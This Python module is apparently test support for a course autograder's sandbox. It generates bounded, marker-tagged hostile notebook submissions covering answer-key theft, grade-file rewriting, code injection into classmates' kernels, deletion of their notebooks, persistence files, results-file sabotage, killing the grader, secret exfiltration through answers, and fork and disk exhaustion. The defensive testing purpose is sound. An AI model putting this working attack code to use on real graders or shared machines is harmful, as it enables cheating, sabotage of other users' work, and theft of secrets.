"""Hostile submissions for the grader's jail: one notebook per attack class of issue 10.

Every notebook is an *exercise stub* (``exercises/exNN_*.ipynb``) plus attack cells appended at
the end (or graded functions replaced by hostile ones). Nothing here is a runnable notebook: the
notebooks are written at test time into a temporary folder by :func:`write_batch`, so nbval never
sees them.

The attacks run for real wherever a defence is missing, on a machine other people share, so each
one is *bounded* and *marker-only*:

* processes it starts carry ``MARK`` (``deconvmark<token>``) in their argv, live at most a few
  tens of seconds, and can be found and ended by that marker;
* files it drops outside the jail hold only a comment and are named ``deconv_attack_<token>*``;
* signals and file rewrites touch only this batch's grader: the kernel's *own* ancestors up to
  the first one whose argv carries the batch token (the grader's ``--out`` folder is named after
  it), and only submission paths that carry the token;
* code injected into other kernels stub-ifies only a kernel whose namespace holds
  ``CLASSMATE_TAG == <token>`` (this batch's honest classmates).

Every attacker *earns* 0 points: its graded functions are stubs or return wrong values; whatever it
scores above 0 it got by cheating.

``python tests/attacks/make_attacks.py DIR [--token T] [NAME ...]`` writes the notebooks for a
manual look or a one-at-a-time run against the grader.
"""

from __future__ import annotations

import argparse
import secrets
import sys
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[2]
SOLUTIONS = ROOT / "solutions"
EXERCISES = ROOT / "exercises"

GRADED_NAMES = [
    "meaning",
    "circular_blur",
    "correlate2d",
    "convolve2d",
    "recipe_forward",
    "predicted_output",
    "conv_matrix1d",
    "conv_transpose_output_size",
    "output_padding_for",
    "conv_matrix",
    "conv_transpose2d",
    "conv_transpose2d_zero_insert",
    "is_adjoint",
    "psf2otf",
    "wiener_filter",
    "richardson_lucy",
    "discrepancy_balance",
    "choose_lambda",
    "edge_taper",
    "admm_x_update",
    "noise_model",
    "same_correlation",
    "unfold",
    "conv2d",
    "avg_pool2d",
    "overlap_map",
    "pixel_shuffle",
    "resize_conv",
    "transposed_conv_macs",
    "checkerboard_energy",
    "icnr",
    "quiz_answers",
]

# ------------------------------------------------------------------------------------------------
# shared helpers, prepended to every attack (one cell)
# ------------------------------------------------------------------------------------------------
HELPERS = r'''
import glob as _glob
import json as _json
import os
import sys
import time as _time

_TOKEN = "__TOKEN__"
_MARK = "__MARK__"
_SELF = "__NAME__"


def _atk_cmdline(pid):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _atk_ppid(pid):
    try:
        with open("/proc/%s/stat" % pid) as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _atk_all_ancestors():
    """(pid, argv) of every ancestor, nearest first (read-only use)."""
    out, pid, seen = [], os.getppid(), set()
    while pid > 1 and pid not in seen and len(out) < 32:
        seen.add(pid)
        out.append((pid, _atk_cmdline(pid)))
        pid = _atk_ppid(pid)
    return out


def _atk_grader_chain():
    """Own ancestors, nearest first, up to this batch's grader (argv has 'grade' and the token).

    Empty when that grader is not among our ancestors: then nothing may be signalled.
    """
    chain = []
    for pid, argv in _atk_all_ancestors():
        chain.append((pid, argv))
        if "grade" in argv and any(_TOKEN in a for a in argv):
            return chain
    return []


def _atk_grader_argv():
    chain = _atk_grader_chain()
    return chain[-1][1] if chain else []


def _atk_opt(argv, name):
    for i, a in enumerate(argv):
        if a == name and i + 1 < len(argv):
            return argv[i + 1]
        if a.startswith(name + "="):
            return a.split("=", 1)[1]
    return None


def _atk_spawn(code, tag, *args):
    """Double fork + setsid: a child outside the kernel's process group, MARK in its argv."""
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                fd = os.open(os.devnull, os.O_RDWR)
                for k in (0, 1, 2):
                    os.dup2(fd, k)
                os.execv(sys.executable, [sys.executable, "-c", code, _MARK + "-" + tag] + list(args))
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
'''

# ------------------------------------------------------------------------------------------------
# 1. the answer key
# ------------------------------------------------------------------------------------------------
KEY_IMPORT = r"""
import importlib


def _atk_questions():
    found = {}
    mods = ["deconv_course.grading", "deconv_course._grader_questions", "deconv_course.grading.questions"]
    mods += ["deconv_course.grading.questions.ex0%d" % k for k in range(1, 7)]
    try:
        import pkgutil

        import deconv_course.grading.questions as _pkg

        mods += [_pkg.__name__ + "." + m.name for m in pkgutil.iter_modules(_pkg.__path__)]
    except Exception:
        pass
    for modname in mods:
        try:
            m = importlib.import_module(modname)
        except Exception:
            continue
        cands = []
        qs = getattr(m, "QUESTIONS", None)
        if isinstance(qs, dict):
            cands += list(qs.values())
        elif isinstance(qs, (list, tuple)):
            cands += list(qs)
        cands += [v for v in vars(m).values() if hasattr(v, "reference") and hasattr(v, "name")]
        for q in cands:
            if isinstance(getattr(q, "id", None), str) and callable(getattr(q, "reference", None)):
                found[q.id] = q
    return found


for _qid, _q in _atk_questions().items():
    if _qid.startswith("ex01."):
        globals()[_q.name] = _q.reference
"""

KEY_SOLUTIONS = r"""
import pathlib

import deconv_course


def _atk_solution(pattern):
    roots = list(pathlib.Path(deconv_course.__file__).resolve().parents)
    roots += list(pathlib.Path(os.getcwd()).parents) + list(pathlib.Path(sys.executable).parents)
    for parent in roots:
        try:
            hits = sorted((parent / "solutions").glob(pattern))
        except OSError:
            continue
        if hits:
            return hits[0]
    return None


_sol = _atk_solution("ex03_*.ipynb")
if _sol is not None:
    for _cell in _json.loads(_sol.read_text())["cells"]:
        _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
        if _cell["cell_type"] != "code" or _src.lstrip().startswith(("check(", "%")):
            continue
        try:
            exec(_src, globals())
        except Exception:
            pass
"""

# the course's own implementation behind the graded names (method cheating: a static check)
IMPL_CT = r"""
from deconv_course.numpy_ops import conv_transpose2d as _course_conv_transpose2d


def conv_transpose2d(input, weight, stride=1, padding=0, output_padding=0):
    return _course_conv_transpose2d(input, weight, stride=stride, padding=padding,
                                    output_padding=output_padding)
"""

IMPL_PSF2OTF = r"""
from deconv_course.restoration import psf2otf
"""

IMPL_WIENER = r"""
def wiener_filter(image, psf, balance):
    import importlib
    return importlib.import_module("deconv_course.restoration").wiener(image, psf, balance)
"""

# ------------------------------------------------------------------------------------------------
# 2. rewriting the results after the grader has gone
# ------------------------------------------------------------------------------------------------
REWRITER_CHILD = r"""
import csv, json, os, sys, time
p = json.loads(sys.argv[2])
deadline = time.time() + 120
while time.time() < deadline and os.path.exists("/proc/%d" % p["gpid"]):
    time.sleep(0.2)
time.sleep(p["delay"])
out, stem = p["out"], p["stem"]
try:
    path = os.path.join(out, "grades.csv")
    with open(path, newline="") as f:
        rows = list(csv.reader(f))
    hdr = rows[0]
    for r in rows[1:]:
        if r and r[0].startswith(stem):
            r[hdr.index("score")] = r[hdr.index("max_score")]
            r[hdr.index("status")] = "graded"
            r[hdr.index("reason")] = ""
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows(rows)
except Exception:
    pass
for name in os.listdir(out) if os.path.isdir(out) else []:
    if name.startswith(stem) and name.endswith(".json"):
        try:
            jp = os.path.join(out, name)
            with open(jp) as f:
                rep = json.load(f)
            rep["score"] = rep.get("max_score", 4)
            rep["status"] = "graded"
            for q in rep.get("questions", []):
                q["score"], q["status"] = q.get("points", 0), "passed"
            with open(jp, "w") as f:
                json.dump(rep, f)
        except Exception:
            pass
"""

REWRITE = r"""
_chain = _atk_grader_chain()
_out = None
if _chain:
    _gpid, _gargv = _chain[-1]
    _out = _atk_opt(_gargv, "--out")
    if _out and not os.path.isabs(_out):
        try:
            _out = os.path.join(os.readlink("/proc/%d/cwd" % _gpid), _out)
        except OSError:
            pass
if _out:
    _atk_spawn(REWRITER_CHILD, "rewriter",
               _json.dumps({"gpid": _chain[-1][0], "out": _out, "stem": _SELF, "delay": 1.0}))
"""

# ------------------------------------------------------------------------------------------------
# 3. classmates: their kernels, their files
# ------------------------------------------------------------------------------------------------
INJECTOR = r"""
import glob, json, os, sys, tempfile, time


def _cmdline(pid):
    try:
        with open("/proc/%s/cmdline" % pid, "rb") as f:
            return [a.decode("utf-8", "replace") for a in f.read().split(b"\0") if a]
    except OSError:
        return []


def _ppid(pid):
    try:
        with open("/proc/%s/stat" % pid) as f:
            return int(f.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _ours(pid, token):
    seen = set()
    while pid > 1 and pid not in seen and len(seen) < 32:
        seen.add(pid)
        if any(token in a for a in _cmdline(pid)):
            return True
        pid = _ppid(pid)
    return False


def _connection_files(own):
    found = set()
    tmps = {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")}
    for t in tmps:
        for pat in ("deconv-grade-*/kernel-*.json", "*/kernel-*.json", "kernel-*.json", "*/*/kernel-*.json"):
            found.update(glob.glob(os.path.join(t, pat)))
    for pat in ("/run/user/*/jupyter/runtime/kernel-*.json", os.path.expanduser("~/.local/share/jupyter/runtime/kernel-*.json")):
        found.update(glob.glob(pat))
    owner = {}
    for d in glob.glob("/proc/[0-9]*"):
        argv = _cmdline(d[6:])
        for i, a in enumerate(argv[:-1]):
            if a == "-f" and argv[i + 1].endswith(".json"):
                found.add(argv[i + 1])
                owner[argv[i + 1]] = int(d[6:])
    found.discard(own)
    return found, owner


def inject(token, own, seconds, code):
    from jupyter_client import BlockingKernelClient
    deadline = time.time() + seconds
    while time.time() < deadline:
        files, owner = _connection_files(own)
        for cf in sorted(files):
            if cf in owner and not _ours(owner[cf], token):
                continue  # a visible kernel of someone else's grader: leave it alone
            try:
                c = BlockingKernelClient()
                c.load_connection_file(cf)
                c.start_channels()
                try:
                    c.execute(code, store_history=False)
                    c.get_shell_msg(timeout=1.0)
                finally:
                    c.stop_channels()
            except Exception:
                pass
        time.sleep(0.3)
"""

STUBIFY = r"""
def __atk_stubify(*_a, **_k):
    _ns = get_ipython().user_ns
    if _ns.get("CLASSMATE_TAG") != "__TOKEN__":
        return
    for _n in __GRADED__:
        _ns[_n] = lambda *a, **k: 0
if not getattr(get_ipython(), "_atk_stubify", False):
    get_ipython()._atk_stubify = True
    get_ipython().events.register("pre_run_cell", __atk_stubify)
__atk_stubify()
"""

CLASSMATE_KERNELS = r"""
def _atk_own_connection_file():
    try:
        return sys.argv[sys.argv.index("-f") + 1]
    except (ValueError, IndexError):
        pass
    try:
        from ipykernel.kernelapp import IPKernelApp
        return IPKernelApp.instance().connection_file
    except Exception:
        return ""


_own = _atk_own_connection_file()
_code = STUBIFY.replace("__TOKEN__", _TOKEN).replace("__GRADED__", repr(GRADED_NAMES))
# a detached injector for later kernels (-j 1), and a few seconds of it right here (-j 2)
_atk_spawn(INJECTOR + "\ninject(%r, %r, 45, %r)\n" % (_TOKEN, _own, _code), "injector")
_ns = {}
exec(INJECTOR, _ns)
_ns["inject"](_TOKEN, _own, 6, _code)
"""

CLASSMATE_FILES = r"""
_paths = [a for a in _atk_grader_argv() if a.endswith(".ipynb") and _TOKEN in a]
_dirs = {os.path.dirname(a) for a in _paths}
for _d in _dirs:
    _paths += [p for p in _glob.glob(os.path.join(_d, "*.ipynb")) if _TOKEN in p]
for _p in sorted(set(_paths)):
    if os.path.basename(_p).startswith(_SELF):
        continue
    try:
        with open(_p) as _f:
            _nb = _json.load(_f)
    except (OSError, ValueError):
        continue
    # copy a classmate's answers ...
    for _cell in _nb.get("cells", []):
        _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
        if _cell.get("cell_type") == "code" and "def meaning" in _src and "NotImplementedError" not in _src:
            try:
                exec(_src, globals())
            except Exception:
                pass
    # ... and destroy theirs
    try:
        with open(_p, "w") as _f:
            _f.write("{}")
    except OSError:
        pass
"""

# ------------------------------------------------------------------------------------------------
# 4. persistence: harmless comment-only markers with unique names
# ------------------------------------------------------------------------------------------------
PERSIST = r"""
import pathlib
import site

import deconv_course

_name = "deconv_attack_" + _TOKEN
_targets = [pathlib.Path(os.path.expanduser("~")) / ".ipython" / "profile_default" / "startup" / ("00-%s.py" % _name)]
if os.environ.get("IPYTHONDIR"):
    _targets.append(pathlib.Path(os.environ["IPYTHONDIR"]) / "profile_default" / "startup" / ("00-%s.py" % _name))
_targets.append(pathlib.Path(deconv_course.__file__).parent / "grading" / ("%s.py" % _name))
_targets.append(pathlib.Path(sys.executable).parent / ("%s.py" % _name))
try:
    _targets += [pathlib.Path(p) / ("%s.pth" % _name) for p in site.getsitepackages()]
except Exception:
    pass
for _t in _targets:
    try:
        if "startup" in _t.parts:
            _t.parent.mkdir(parents=True, exist_ok=True)
        if _t.parent.is_dir():
            _t.write_text("# deconv_course grader attack test: harmless marker\n")
    except OSError:
        pass
"""

# ------------------------------------------------------------------------------------------------
# 5. breaking the batch: the results file, the grader's process
# ------------------------------------------------------------------------------------------------
RESULTS_HOOK = r"""
_ATK_PENDING = {}


def _atk_find_folder():
    f = sys._getframe(2)
    while f is not None:
        sp = f.f_locals.get("spec_path")
        if isinstance(sp, str):
            return os.path.dirname(sp)
        v = f.f_locals.get("folder")
        if isinstance(v, str) and os.path.isdir(v):
            return v
        f = f.f_back
    c = _glob.glob(os.path.join(os.path.dirname(os.getcwd()), "io-*")) + _glob.glob(os.path.join(os.getcwd(), "io-*"))
    c.sort(key=lambda p: os.path.getmtime(p))
    return c[-1] if c else None


def _atk_post(*_a, **_k):
    while _ATK_PENDING:
        folder, kind = _ATK_PENDING.popitem()
        p = os.path.join(folder, "results.json")
        try:
            os.unlink(p)
        except OSError:
            pass
        try:
            if kind == "fifo":
                os.mkfifo(p)
            elif kind == "zero":
                os.symlink("/dev/zero", p)
            elif kind == "huge":
                with open(p, "wb") as fh:
                    fh.truncate(8 * 2**30)   # sparse: no disk used
        except (OSError, ValueError):
            pass


def _atk_break_results(kind):
    folder = _atk_find_folder()
    if folder:
        _ATK_PENDING[folder] = kind
    ip = get_ipython()
    if not getattr(ip, "_atk_hooked", False):
        ip._atk_hooked = True
        ip.events.register("post_run_cell", _atk_post)
"""

MEANING_FIFO = r"""
def meaning(term):
    _atk_break_results("fifo")
    return "no idea"
"""

MEANING_ZERO = r"""
def meaning(term):
    _atk_break_results("zero")
    return "no idea"
"""

BLUR_HUGE = r"""
def circular_blur(image, psf):
    import numpy as np
    _atk_break_results("huge")
    return np.zeros(np.shape(image))
"""

# the same attack on a harness whose results leave as a display message: forged, malformed,
# deeply nested and large (30 MB, bounded) result messages, sent from inside the graded function
MEANING_MESSAGES = r"""
def meaning(term):
    from IPython.display import publish_display_data

    mime = "application/vnd.deconv-grader.results+json"
    f = sys._getframe(1)
    while f is not None:
        mime = f.f_globals.get("RESULT_MIME", mime) if isinstance(f.f_globals.get("RESULT_MIME"), str) else mime
        f = f.f_back
    forged_ok = [{"status": "ok", "result": {"type": "str", "value": "upsampling operator"}}] * 10
    for payload in (forged_ok, [{"status": "ok"}] * 3, {"__npy__": "../../etc/passwd"}):
        try:
            publish_display_data({mime: payload}, metadata={})
        except Exception:
            pass
    # 50000-deep nesting, already serialised (the kernel's own encoder would refuse it): 100 kB
    try:
        k = get_ipython().kernel
        raw = b'{"data": {"' + mime.encode() + b'": ' + b"[" * 50000 + b"]" * 50000 + b'}, "metadata": {}}'
        k.session.send(k.iopub_socket, "display_data", content=raw, parent=k.get_parent("shell"),
                       ident=b"display_data")
    except Exception:
        pass
    try:  # last: 30 MB, over the output limit
        publish_display_data({mime: "x" * (30 * 2**20)}, metadata={})
    except Exception:
        pass
    return "no idea"
"""

SIGNAL_GRADER = r"""
import signal as _signal

_pids = [p for p, _argv in _atk_grader_chain()]
_jp = os.environ.get("JPY_PARENT_PID", "")
if _jp.isdigit() and int(_jp) not in _pids and int(_jp) not in (0, 1, os.getpid()):
    _pids.insert(0, int(_jp))
for _p in _pids:
    try:
        os.kill(_p, _signal.__SIGNAL__)
    except OSError:
        pass
_time.sleep(1.0)
"""

# ------------------------------------------------------------------------------------------------
# 6. secrets and files, echoed back through a wrong string answer and a cell's error message
# ------------------------------------------------------------------------------------------------
LEAKS = r"""
def _atk_leaks():
    leaks = [os.environ.get("DECONV_GRADER_SECRET") or "no-env-secret"]
    s = "no-argv-secret"
    for _pid, argv in _atk_all_ancestors():
        s = _atk_opt(argv, "--secret") or s
    leaks.append(s)
    homes = [os.path.expanduser("~")]
    try:
        import pwd
        homes.append(pwd.getpwuid(0).pw_dir)
    except Exception:
        pass
    for h in homes:
        try:
            with open(os.path.join(h, "notes.txt")) as f:
                leaks.append(f.read().strip()[:50])
        except OSError:
            leaks.append("no-notes")
        try:
            leaks.append("|".join(sorted(os.listdir(h)))[:55])
        except OSError:
            leaks.append("no-listing")
    return leaks


_ATK_CALLS = [0]


def meaning(term):
    leaks = _atk_leaks()
    _ATK_CALLS[0] += 1
    return leaks[_ATK_CALLS[0] % len(leaks)]
"""

LEAK_CELL = r"""
raise RuntimeError(" ".join(_atk_leaks()))
"""

# ------------------------------------------------------------------------------------------------
# 7. resources: bounded
# ------------------------------------------------------------------------------------------------
RESOURCES = r"""
import signal as _signal

try:
    _signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)   # a file-size limit then raises, not kills
except (AttributeError, ValueError):
    pass
# 300 sleeping processes (fork, then exec a shell whose argv carries the marker)
for _i in range(300):
    try:
        _pid = os.fork()
    except OSError:
        break
    if _pid == 0:
        try:
            os.execv("/bin/sh", ["sh", "-c", "sleep 20; : " + _MARK + "-sleeper"])
        finally:
            os._exit(0)
# 600 MB of real data, in the kernel's cwd and in /tmp
_chunk = b"\x01" * 2**20
for _target in (os.path.join(os.getcwd(), "deconv_attack_" + _TOKEN + "_cwd_big"),
                os.path.join("/tmp", "deconv_attack_" + _TOKEN + "_big")):
    try:
        with open(_target, "wb") as _f:
            for _i in range(600):
                _f.write(_chunk)
    except OSError:
        pass
# 30 s of CPU in a detached child; a detached child that drops a marker file after 10 s
_atk_spawn("import time\nt = time.time() + 30\nwhile time.time() < t:\n    pass\n", "spinner")
_atk_spawn("import sys, time\ntime.sleep(10)\nopen(sys.argv[2], 'w').write('late')\n", "late",
           os.path.join("/tmp", "deconv_attack_" + _TOKEN + "_late"))
"""


# ------------------------------------------------------------------------------------------------
# the attacks: base exercise, graded functions replaced, cells appended (after the stubs)
# ------------------------------------------------------------------------------------------------
@dataclass
class Attack:
    base: str  # exercise notebook stem
    replace: dict = field(default_factory=dict)  # graded function name -> source
    cells: list = field(default_factory=list)  # appended cells
    consts: tuple = ()  # module-level strings the cells need, defined in the helper cell


ATTACKS: dict[str, Attack] = {
    "atk_key_import": Attack("ex01_two_meanings", cells=[KEY_IMPORT]),
    "atk_key_solutions": Attack("ex03_algorithms", cells=[KEY_SOLUTIONS]),
    "atk_course_impl": Attack("ex03_algorithms", replace={"conv_transpose2d": IMPL_CT}),
    "atk_course_impl_ex03b": Attack(
        "ex03b_restoration", replace={"psf2otf": IMPL_PSF2OTF, "wiener_filter": IMPL_WIENER}
    ),
    "atk_rewrite": Attack("ex01_two_meanings", cells=[REWRITE], consts=("REWRITER_CHILD",)),
    "atk_classmate_kernels": Attack(
        "ex01_two_meanings", cells=[CLASSMATE_KERNELS], consts=("INJECTOR", "STUBIFY", "GRADED_NAMES")
    ),
    "atk_classmate_files": Attack("ex01_two_meanings", cells=[CLASSMATE_FILES]),
    "atk_persist": Attack("ex01_two_meanings", cells=[PERSIST]),
    "atk_fifo": Attack("ex01_two_meanings", replace={"meaning": MEANING_FIFO}, cells=[RESULTS_HOOK]),
    "atk_links": Attack(
        "ex01_two_meanings",
        replace={"meaning": MEANING_ZERO, "circular_blur": BLUR_HUGE},
        cells=[RESULTS_HOOK],
    ),
    "atk_result_messages": Attack("ex01_two_meanings", replace={"meaning": MEANING_MESSAGES}),
    "atk_sigstop": Attack("ex01_two_meanings", cells=[SIGNAL_GRADER.replace("__SIGNAL__", "SIGSTOP")]),
    "atk_sigkill": Attack("ex01_two_meanings", cells=[SIGNAL_GRADER.replace("__SIGNAL__", "SIGKILL")]),
    "atk_secrets": Attack("ex01_two_meanings", replace={"meaning": LEAKS}, cells=[LEAK_CELL]),
    "atk_resources": Attack("ex01_two_meanings", cells=[RESOURCES]),
}

# where each attack's function replacements must go before its appended cells (the hook and the
# leak helpers are defined by the replaced function's cell or by an appended one; see build())
_CONSTS = {
    "REWRITER_CHILD": REWRITER_CHILD,
    "INJECTOR": INJECTOR,
    "STUBIFY": STUBIFY,
    "GRADED_NAMES": GRADED_NAMES,
}


def _notebook(stem: str, folder: Path) -> nbformat.NotebookNode:
    nb = nbformat.read(str(folder / f"{stem}.ipynb"), as_version=4)
    for cell in nb.cells:  # as saved by a student: outputs do not matter
        if cell.cell_type == "code":
            cell.outputs = []
            cell.execution_count = None
    return nb


def build(name: str, token: str, mark: str) -> nbformat.NotebookNode:
    """The attack notebook ``name``: its exercise stub, functions replaced, attack cells appended."""
    atk = ATTACKS[name]
    nb = _notebook(atk.base, EXERCISES)
    helpers = HELPERS.replace("__TOKEN__", token).replace("__MARK__", mark).replace("__NAME__", name)
    for const in atk.consts:
        helpers += f"\n{const} = {_CONSTS[const]!r}\n"
    if "meaning" in atk.replace or "circular_blur" in atk.replace:
        # the results hook must exist before the graded functions are called: put it up front
        helpers += "\n" + "".join(c for c in atk.cells if c is RESULTS_HOOK)
    nb.cells.insert(0, nbformat.v4.new_code_cell(helpers.strip("\n")))
    for fname, src in atk.replace.items():
        hits = [c for c in nb.cells if c.cell_type == "code" and f"def {fname}(" in c.source]
        if len(hits) != 1:
            raise LookupError(f"{atk.base}: expected one cell defining {fname}, found {len(hits)}")
        hits[0].source = src.strip("\n")
    for src in atk.cells:
        if src is RESULTS_HOOK:
            continue
        nb.cells.append(nbformat.v4.new_code_cell(src.strip("\n")))
    return nb


def honest(stem: str, token: str) -> nbformat.NotebookNode:
    """A classmate's correct submission: the solution notebook, tagged for the kernel injector."""
    nb = _notebook(stem, SOLUTIONS)
    nb.cells.insert(0, nbformat.v4.new_code_cell(f'CLASSMATE_TAG = "{token}"'))
    return nb


def stub(stem: str) -> nbformat.NotebookNode:
    """An untouched exercise notebook (scores 0)."""
    return _notebook(stem, EXERCISES)


# the batch, in grading order: the injector first (its kernel overlaps the ex03 classmate under
# -j 2); the signals and the file destroyer last among the attackers (where a defence is missing
# they spoil what comes after them); an honest ex01 classmate and untouched stubs after them all
BATCH = [
    "atk_classmate_kernels",
    "honest_ex03",
    "atk_key_import",
    "atk_key_solutions",
    "atk_course_impl",
    "atk_course_impl_ex03b",
    "atk_secrets",
    "atk_persist",
    "atk_rewrite",
    "atk_fifo",
    "atk_links",
    "atk_result_messages",
    "atk_resources",
    "atk_sigstop",
    "atk_sigkill",
    "atk_classmate_files",
    "honest_ex01",
    "stub_ex01",
    "stub_ex03",
]

HONEST = {"honest_ex01": "ex01_two_meanings", "honest_ex03": "ex03_algorithms"}
STUBS = {"stub_ex01": "ex01_two_meanings", "stub_ex03": "ex03_algorithms"}


def make(name: str, token: str, mark: str) -> nbformat.NotebookNode:
    if name in HONEST:
        return honest(HONEST[name], token)
    if name in STUBS:
        return stub(STUBS[name])
    return build(name, token, mark)


def write_batch(dest, token: str, mark: str, names=None) -> list[Path]:
    """Write the notebooks ``names`` (default: :data:`BATCH`) into ``dest``; return their paths in order."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    paths = []
    for name in names or BATCH:
        path = dest / f"{name}.ipynb"
        nbformat.write(make(name, token, mark), str(path))
        paths.append(path)
    return paths


if __name__ == "__main__":
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("dest")
    ap.add_argument("names", nargs="*", help=f"default: the whole batch ({' '.join(BATCH)})")
    ap.add_argument(
        "--token", default=None, help="batch token (default: random); the folder name should carry it"
    )
    a = ap.parse_intermixed_args()
    tok = a.token or secrets.token_hex(6)
    for p in write_batch(a.dest, tok, "deconvmark" + tok, a.names or None):
        print(p)
    print(f"token {tok}: grade with an --out folder whose path contains it", file=sys.stderr)
